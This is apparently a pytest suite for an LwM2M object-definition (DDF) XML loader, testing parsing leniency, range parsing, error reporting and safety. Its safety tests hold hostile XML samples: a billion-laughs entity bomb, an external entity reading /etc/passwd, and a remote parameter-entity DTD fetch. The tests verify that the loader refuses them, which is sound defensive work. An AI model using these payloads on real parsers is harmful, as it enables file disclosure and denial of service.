"""The DDF XML loader: leniency, safety and error reporting."""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from workbench.lwm2m.ddf import (
    MAX_DDF_BYTES,
    load_ddf_bytes,
    load_ddf_file,
    load_ddf_folder,
    parse_range_enumeration,
)
from workbench.lwm2m.errors import DefinitionError
from workbench.lwm2m.model import Operations, ResourceType, ValueRange

ITEM = """
      <Item ID="{id}">
        <Name>{name}</Name>
        <Operations>{ops}</Operations>
        <MultipleInstances>{multi}</MultipleInstances>
        <Mandatory>{mand}</Mandatory>
        <Type>{type}</Type>
        <RangeEnumeration>{range}</RangeEnumeration>
        <Units>{units}</Units>
        <Description>{desc}</Description>
      </Item>"""


def item(
    id: int | str = 0,
    name: str = "Value",
    ops: str = "R",
    multi: str = "Single",
    mand: str = "Optional",
    type: str = "Integer",
    range: str = "",
    units: str = "",
    desc: str = "A value.",
) -> str:
    return ITEM.format(
        id=id,
        name=name,
        ops=ops,
        multi=multi,
        mand=mand,
        type=type,
        range=range,
        units=units,
        desc=desc,
    )


def ddf(
    *items: str,
    object_id: str = "40000",
    name: str = "Test Object",
    head: str = '<?xml version="1.0" encoding="UTF-8"?>\n',
    object_attrs: str = ' ObjectType="MODefinition"',
) -> bytes:
    body = "".join(items) or item()
    return (
        f"{head}<LWM2M>\n  <Object{object_attrs}>\n"
        f"    <Name>{name}</Name>\n"
        "    <Description1>Test.</Description1>\n"
        f"    <ObjectID>{object_id}</ObjectID>\n"
        "    <ObjectURN>urn:oma:lwm2m:x:40000</ObjectURN>\n"
        "    <LWM2MVersion>1.1</LWM2MVersion>\n"
        "    <ObjectVersion>1.2</ObjectVersion>\n"
        "    <MultipleInstances>Multiple</MultipleInstances>\n"
        "    <Mandatory>Optional</Mandatory>\n"
        f"    <Resources>{body}\n    </Resources>\n"
        "    <Description2>More.</Description2>\n"
        "  </Object>\n</LWM2M>\n"
    ).encode()


def load_one(data: bytes) -> object:
    (definition,) = load_ddf_bytes(data, "test.xml")
    return definition


# -- the normal shape -----------------------------------------------------------------------------


def test_loads_a_plain_file() -> None:
    (obj,) = load_ddf_bytes(
        ddf(
            item(0, "Count", "RW", "Single", "Mandatory", "Integer", "0..100", "s"),
            item(1, "Reset", "E", "Single", "Optional", ""),
            item(2, "Names", "R", "Multiple", "Optional", "String"),
        ),
        "test.xml",
    )
    assert (obj.id, obj.name, obj.version, obj.lwm2m_version) == (
        40000,
        "Test Object",
        "1.2",
        "1.1",
    )
    assert obj.multiple and not obj.mandatory
    assert obj.urn == "urn:oma:lwm2m:x:40000"
    assert obj.description == "Test.\n\nMore."
    assert obj.source == "test.xml"
    count = obj.resources[0]
    assert count.type is ResourceType.INTEGER
    assert count.operations == Operations.READ | Operations.WRITE
    assert count.mandatory and not count.multiple
    assert (count.units, count.range_text, count.range) == ("s", "0..100", ValueRange(0, 100))
    assert obj.resources[1].type is ResourceType.NONE
    assert obj.resources[1].executable
    assert obj.resources[2].multiple


def test_file_with_namespace_and_attributes() -> None:
    data = ddf().replace(
        b"<LWM2M>",
        b'<LWM2M xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
        b'xsi:noNamespaceSchemaLocation="http://www.openmobilealliance.org/LWM2M.xsd">',
    )
    assert load_one(data).id == 40000  # type: ignore[attr-defined]


def test_default_namespace_is_ignored() -> None:
    data = ddf().replace(b"<LWM2M>", b'<LWM2M xmlns="urn:example:lwm2m">')
    assert load_one(data).id == 40000  # type: ignore[attr-defined]


def test_several_objects_in_one_file() -> None:
    one = ddf(object_id="40001").decode()
    inner = one[one.index("<Object") : one.index("</LWM2M>")]
    data = ddf(object_id="40000").replace(b"</LWM2M>", inner.encode() + b"</LWM2M>")
    assert [d.id for d in load_ddf_bytes(data, "x")] == [40000, 40001]


# -- leniency -------------------------------------------------------------------------------------


def test_element_order_does_not_matter() -> None:
    data = b"""<LWM2M><Object ObjectType="MODefinition">
      <Resources>
        <Item ID="7"><Type>Float</Type><Description>x</Description><Units>Cel</Units>
          <Mandatory>Mandatory</Mandatory><Name>Temp</Name><MultipleInstances>Single</MultipleInstances>
          <RangeEnumeration>-40..85</RangeEnumeration><Operations>R</Operations></Item>
      </Resources>
      <Mandatory>Mandatory</Mandatory>
      <ObjectID>3303</ObjectID>
      <Description2/>
      <MultipleInstances>Single</MultipleInstances>
      <Name>Temperature</Name>
      <Description1>t</Description1>
    </Object></LWM2M>"""
    (obj,) = load_ddf_bytes(data, "order.xml")
    assert (obj.id, obj.name, obj.mandatory, obj.multiple) == (3303, "Temperature", True, False)
    temp = obj.resources[7]
    assert (temp.name, temp.type, temp.units, temp.mandatory) == (
        "Temp",
        ResourceType.FLOAT,
        "Cel",
        True,
    )
    assert temp.range == ValueRange(-40, 85)


def test_utf8_bom_and_leading_blank_lines() -> None:
    assert load_one(b"\xef\xbb\xbf" + ddf()).id == 40000  # type: ignore[attr-defined]
    assert load_one(b"\xef\xbb\xbf\n\n  " + ddf()).id == 40000  # type: ignore[attr-defined]


def test_utf16_file_with_bom() -> None:
    text = ddf(head='<?xml version="1.0" encoding="UTF-16"?>\n').decode()
    assert load_one(text.encode("utf-16")).id == 40000  # type: ignore[attr-defined]


def test_whitespace_and_cdata_around_values() -> None:
    data = ddf(
        item(
            id=" 3 ",
            name="  Battery \n   Level ",
            ops=" RW ",
            multi=" multiple ",
            mand=" MANDATORY",
            type=" Integer ",
            range=" 0..100 ",
            units=" % ",
            desc="<![CDATA[ <b>not</b> markup ]]>",
        ),
        object_id="\n   40000\n  ",
    )
    obj = load_one(data)
    battery = obj.resources[3]  # type: ignore[attr-defined]
    assert battery.name == "Battery Level"
    assert battery.operations.letters == "RW"
    assert battery.multiple and battery.mandatory
    assert (battery.units, battery.range_text, battery.range) == ("%", "0..100", ValueRange(0, 100))
    assert battery.description == "<b>not</b> markup"


def test_empty_fields() -> None:
    data = ddf(item(id=4, ops="", multi="", mand="", type="", range="", units="", desc=""))
    resource = load_one(data).resources[4]  # type: ignore[attr-defined]
    assert resource.type is ResourceType.NONE
    assert resource.operations is Operations.NONE
    assert not resource.multiple and not resource.mandatory
    assert (resource.units, resource.range_text, resource.range, resource.enumeration) == (
        "",
        "",
        None,
        (),
    )


def test_missing_optional_elements_and_self_closing_tags() -> None:
    data = b"""<LWM2M><Object>
      <ObjectID>5</ObjectID>
      <Resources><Item ID="1"><Name>URI</Name><Type>String</Type><Units/><RangeEnumeration/>
      </Item></Resources></Object></LWM2M>"""
    (obj,) = load_ddf_bytes(data, "min.xml")
    assert (obj.name, obj.version, obj.lwm2m_version, obj.multiple) == (
        "Object 5",
        "1.0",
        "1.0",
        False,
    )
    uri = obj.resources[1]
    assert (uri.type, uri.operations, uri.multiple, uri.mandatory) == (
        ResourceType.STRING,
        Operations.NONE,
        False,
        False,
    )


def test_object_without_resources() -> None:
    data = b"<LWM2M><Object><ObjectID>9</ObjectID><Name>Empty</Name></Object></LWM2M>"
    (obj,) = load_ddf_bytes(data, "empty.xml")
    assert obj.resources == {}


def test_case_variations() -> None:
    data = ddf(item(multi="MULTIPLE", mand="mandatory", type="unsigned integer", ops="rw"))
    resource = load_one(data).resources[0]  # type: ignore[attr-defined]
    assert resource.multiple and resource.mandatory
    assert resource.type is ResourceType.UNSIGNED_INTEGER
    assert resource.operations.letters == "RW"
    lower = ddf().replace(b"<Name>Test Object</Name>", b"<name>lower</name>")
    assert load_one(lower).name == "lower"  # type: ignore[attr-defined]


def test_unparseable_range_keeps_text() -> None:
    data = ddf(item(range="&lt;7 to &gt;12.5"), item(id=1, range="2 Instances"))
    obj = load_one(data)
    for resource in obj.resources.values():  # type: ignore[attr-defined]
        assert resource.range is None and resource.enumeration == ()
    assert obj.resources[0].range_text == "<7 to >12.5"  # type: ignore[attr-defined]


def test_resources_are_sorted_by_id() -> None:
    data = ddf(item(id=5700), item(id=5601), item(id=0))
    assert list(load_one(data).resources) == [0, 5601, 5700]  # type: ignore[attr-defined]


def test_comments_and_processing_instructions_are_ignored() -> None:
    data = ddf(item()).replace(b"<Resources>", b"<Resources><!-- a comment --><?pi x?>")
    assert list(load_one(data).resources) == [0]  # type: ignore[attr-defined]


# -- RangeEnumeration -----------------------------------------------------------------------------

INT, U, F, S, OPQ = (
    ResourceType.INTEGER,
    ResourceType.UNSIGNED_INTEGER,
    ResourceType.FLOAT,
    ResourceType.STRING,
    ResourceType.OPAQUE,
)


@pytest.mark.parametrize(
    ("rtype", "text", "low", "high", "enumeration"),
    [
        (INT, "0..100", 0, 100, ()),
        (INT, "-40..85", -40, 85, ()),
        (INT, "-110..-48", -110, -48, ()),
        (INT, "0-255", 0, 255, ()),
        (INT, "-10-30", -10, 30, ()),
        (INT, "1...15", 1, 15, ()),
        (INT, "1..", 1, None, ()),
        (INT, "..100", None, 100, ()),
        (INT, " 0 .. 100 ", 0, 100, ()),
        (INT, "0 to 10", 0, 10, ()),
        (U, "0..18446744073709551615", 0, 2**64 - 1, ()),
        (F, "0.000001..1.0", 0.000001, 1.0, ()),
        (F, "-100.0..100.0", -100.0, 100.0, ()),
        (INT, "0,1,2", 0, 2, (0, 1, 2)),
        (INT, "5, 10, 15, 20", 5, 20, (5, 10, 15, 20)),
        (INT, "0..3, 99", 0, 99, (0, 1, 2, 3, 99)),
        (INT, "0-3, 7", 0, 7, (0, 1, 2, 3, 7)),
        (INT, "1,1,2", 1, 2, (1, 2)),
        (U, "0: RELEASED\n\t\t1: PRESSED\n\t\t2: FAULT", 0, 2, (0, 1, 2)),
        (INT, "1: normal\n2: remote\n255: off", 1, 255, (1, 2, 255)),
        (F, "0.5, 1.5", 0.5, 1.5, (0.5, 1.5)),
        (S, "0..255 bytes", 0, 255, ()),
        (S, "1..64 Bytes", 1, 64, ()),
        (S, "0..255", 0, 255, ()),
        (S, "64", 0, 64, ()),
        (S, "32 bytes", 0, 32, ()),
        (S, "10,26", 10, 26, ()),
        (OPQ, "16,32,48", 16, 48, ()),
        (OPQ, "6", 0, 6, ()),
        (ResourceType.CORELNK, "0..1024", 0, 1024, ()),
    ],
)
def test_parse_range_enumeration(
    rtype: ResourceType,
    text: str,
    low: float | None,
    high: float | None,
    enumeration: tuple[object, ...],
) -> None:
    value_range, values = parse_range_enumeration(rtype, text)
    assert value_range == ValueRange(low, high)
    assert values == enumeration


@pytest.mark.parametrize(
    ("rtype", "text"),
    [
        (INT, ""),
        (INT, "   "),
        (INT, "255"),  # maximum or fixed value? not enforced
        (INT, "8-Bits"),
        (INT, "2 Instances"),
        (INT, "1 bytes"),
        (INT, "<7 to >12.5"),
        (INT, "0.5..10"),  # fractional bound on an integer
        (INT, "10..0"),  # reversed
        (F, "0..3, 99"),  # spans of floats cannot be listed
        (F, "ON;OFF"),
        (S, "The possible values are those listed in the LwM2M Core Specification"),
        (S, "-1..5"),
        (ResourceType.BOOLEAN, "0..1"),
        (ResourceType.OBJLNK, "0..65535"),
        (ResourceType.NONE, "0..1"),
        (INT, "0..nan"),
    ],
)
def test_parse_range_enumeration_not_enforced(rtype: ResourceType, text: str) -> None:
    assert parse_range_enumeration(rtype, text) == (None, ())


def test_string_word_enumeration() -> None:
    assert parse_range_enumeration(S, "ON;OFF") == (None, ("ON", "OFF"))
    assert parse_range_enumeration(S, "U, UQ, S") == (None, ("U", "UQ", "S"))


def test_huge_enumeration_keeps_only_the_hull() -> None:
    value_range, values = parse_range_enumeration(INT, "0..100000, 200000")
    assert value_range == ValueRange(0, 200000)
    assert values == ()


@settings(max_examples=200)
@given(st.sampled_from(list(ResourceType)), st.text(max_size=30))
def test_parse_range_enumeration_never_raises(rtype: ResourceType, text: str) -> None:
    value_range, _values = parse_range_enumeration(rtype, text)
    if value_range is not None and value_range.low is not None and value_range.high is not None:
        assert value_range.low <= value_range.high


@settings(max_examples=100)
@given(st.text(max_size=30))
def test_any_range_text_loads(text: str) -> None:
    from xml.sax.saxutils import escape

    cleaned = "".join(c for c in text if c.isprintable() and c not in "\ud800\udfff")
    try:
        cleaned.encode("utf-8")
    except UnicodeEncodeError:
        return
    resource = load_one(ddf(item(range=escape(cleaned)))).resources[0]  # type: ignore[attr-defined]
    assert resource.range_text == cleaned.strip()


# -- safety ---------------------------------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<LWM2M><Object><ObjectID>1</ObjectID><Name>&lol9;</Name></Object></LWM2M>
"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE LWM2M [ <!ENTITY secret SYSTEM "file:///etc/passwd"> ]>
<LWM2M><Object><ObjectID>1</ObjectID><Name>&secret;</Name></Object></LWM2M>
"""

PLAIN_DOCTYPE = b"""<?xml version="1.0"?>
<!DOCTYPE LWM2M SYSTEM "LWM2M.dtd">
<LWM2M><Object><ObjectID>1</ObjectID><Name>x</Name></Object></LWM2M>
"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE LWM2M [ <!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd"> %remote; ]>
<LWM2M><Object><ObjectID>1</ObjectID></Object></LWM2M>
"""


@pytest.mark.parametrize(
    "data",
    [
        BILLION_LAUGHS,
        EXTERNAL_ENTITY,
        PLAIN_DOCTYPE,
        PARAMETER_ENTITY,
        b"\xef\xbb\xbf" + PLAIN_DOCTYPE,
    ],
    ids=["billion-laughs", "external-entity", "plain-doctype", "parameter-entity", "bom-doctype"],
)
def test_dtds_and_entities_are_refused(data: bytes) -> None:
    with pytest.raises(DefinitionError, match=r"DTDs.*not allowed") as info:
        load_ddf_bytes(data, "evil.xml")
    assert str(info.value).startswith("evil.xml: ")
    assert info.value.source == "evil.xml"


# -- errors ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"", "empty"),
        (b"   \n", "empty"),
        (b"\xef\xbb\xbf", "empty"),
        (b"<LWM2M><Object>", "malformed XML"),
        (b"<LWM2M><Object></LWM2M>", "malformed XML"),
        (b"not xml at all", "malformed XML"),
        (b"\x00\x01\x02binary", "malformed XML"),
        (b'<?xml version="1.0" encoding="no-such-codec"?><LWM2M/>', "XML"),
        (b"<DDFList><Item/></DDFList>", "root element is <DDFList>, expected <LWM2M>"),
        (b"<LWM2M></LWM2M>", "no <Object>"),
        (
            b'<LWM2M><Object ObjectType="CommonResources"><Resources/></Object></LWM2M>',
            "not an object definition",
        ),
        (b"<LWM2M><Object><Name>x</Name></Object></LWM2M>", "missing <ObjectID>"),
        (b"<LWM2M><Object><ObjectID> </ObjectID></Object></LWM2M>", "missing <ObjectID>"),
        (b"<LWM2M><Object><ObjectID>abc</ObjectID></Object></LWM2M>", "'abc' is not a decimal"),
        (b"<LWM2M><Object><ObjectID>-3</ObjectID></Object></LWM2M>", "'-3' is not a decimal"),
        (b"<LWM2M><Object><ObjectID>3.0</ObjectID></Object></LWM2M>", "not a decimal"),
        (b"<LWM2M><Object><ObjectID>65535</ObjectID></Object></LWM2M>", "out of range 0..65534"),
        (b"<LWM2M><Object><ObjectID>99999999999</ObjectID></Object></LWM2M>", "out of range"),
    ],
)
def test_broken_files(data: bytes, reason: str) -> None:
    with pytest.raises(DefinitionError) as info:
        load_ddf_bytes(data, "broken.xml")
    assert info.value.source == "broken.xml"
    assert reason in str(info.value)


@pytest.mark.parametrize(
    ("items", "reason"),
    [
        (item(id=""), "item #1 (Value): missing ID"),
        (item(id="x"), "resource ID 'x' is not a decimal"),
        (item(id="70000"), "out of range 0..65534"),
        (item(type="Strin"), "object 40000, resource 0 (Value): unknown resource type 'Strin'"),
        (item(ops="RX"), "resource 0 (Value): unknown operation letter 'X'"),
        (item(multi="Several"), "<MultipleInstances> is 'Several'"),
        (item(mand="Maybe"), "<Mandatory> is 'Maybe'"),
        (item(id=1) + item(id=1), "resource 1 is defined twice"),
    ],
)
def test_broken_items_name_the_resource(items: str, reason: str) -> None:
    with pytest.raises(DefinitionError, match=r"^broken\.xml: ") as info:
        load_ddf_bytes(ddf(items), "broken.xml")
    assert reason in str(info.value)


def test_object_multiplicity_error() -> None:
    data = ddf().replace(
        b"<MultipleInstances>Multiple</MultipleInstances>",
        b"<MultipleInstances>2</MultipleInstances>",
    )
    with pytest.raises(DefinitionError, match="object 40000: <MultipleInstances> is '2'"):
        load_ddf_bytes(data, "x.xml")


def test_oversized_file_is_refused() -> None:
    with pytest.raises(DefinitionError, match="at most"):
        load_ddf_bytes(b" " * (MAX_DDF_BYTES + 1), "big.xml")


def test_non_bytes_input() -> None:
    with pytest.raises(DefinitionError, match="expected bytes"):
        load_ddf_bytes("<LWM2M/>", "str.xml")  # type: ignore[arg-type]


@settings(max_examples=200)
@given(st.binary(max_size=200))
def test_random_bytes_raise_only_definition_error(data: bytes) -> None:
    try:
        load_ddf_bytes(data, "fuzz.xml")
    except DefinitionError:
        pass


@settings(max_examples=200)
@given(st.data())
def test_mutated_files_raise_only_definition_error(data: st.DataObject) -> None:
    original = ddf(item(range="0..100"), item(id=1, type="", ops="E"))
    position = data.draw(st.integers(0, len(original) - 1))
    length = data.draw(st.integers(0, 8))
    insert = data.draw(st.binary(max_size=8))
    mutated = original[:position] + insert + original[position + length :]
    try:
        load_ddf_bytes(mutated, "mutated.xml")
    except DefinitionError:
        pass


# -- files and folders ----------------------------------------------------------------------------


def test_load_file_uses_its_path_as_source(tmp_path: Path) -> None:
    path = tmp_path / "40000.xml"
    path.write_bytes(ddf())
    (obj,) = load_ddf_file(path)
    assert obj.source == str(path)


def test_load_missing_file(tmp_path: Path) -> None:
    with pytest.raises(DefinitionError, match="cannot read file") as info:
        load_ddf_file(tmp_path / "nope.xml")
    assert "nope.xml" in str(info.value)


def test_folder_with_one_broken_file(tmp_path: Path) -> None:
    (tmp_path / "40000.xml").write_bytes(ddf(object_id="40000"))
    (tmp_path / "40001.XML").write_bytes(ddf(object_id="40001"))
    (tmp_path / "broken.xml").write_bytes(b"<LWM2M><Object>")
    (tmp_path / "evil.xml").write_bytes(BILLION_LAUGHS)
    (tmp_path / "notes.txt").write_text("not a definition")
    (tmp_path / "sub.xml").mkdir()  # a folder named like a file is skipped
    definitions, errors = load_ddf_folder(tmp_path)
    assert sorted(d.id for d in definitions) == [40000, 40001]
    assert sorted(Path(e.source or "").name for e in errors) == ["broken.xml", "evil.xml"]
    assert all(isinstance(e, DefinitionError) for e in errors)
    assert any("not allowed" in str(e) for e in errors)


def test_missing_folder_is_reported_not_raised(tmp_path: Path) -> None:
    definitions, errors = load_ddf_folder(tmp_path / "absent")
    assert definitions == []
    assert len(errors) == 1
    assert "does not exist" in str(errors[0])


def test_deeply_nested_markup_does_not_blow_the_stack() -> None:
    depth = 50_000
    data = (
        b"<LWM2M><Object><ObjectID>1</ObjectID><Name>"
        + b"<b>" * depth
        + b"deep"
        + b"</b>" * depth
        + b"</Name></Object></LWM2M>"
    )
    (obj,) = load_ddf_bytes(data, "deep.xml")
    assert obj.name == "deep"
